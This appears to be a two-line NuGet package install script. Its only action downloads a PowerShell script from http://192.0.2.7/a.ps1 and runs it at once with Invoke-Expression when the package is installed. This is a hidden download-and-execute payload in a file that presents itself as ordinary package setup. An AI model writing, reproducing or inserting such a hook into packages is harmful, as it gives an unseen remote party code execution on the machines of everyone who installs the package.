param($installPath,$toolsPath,$package)
iex (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')
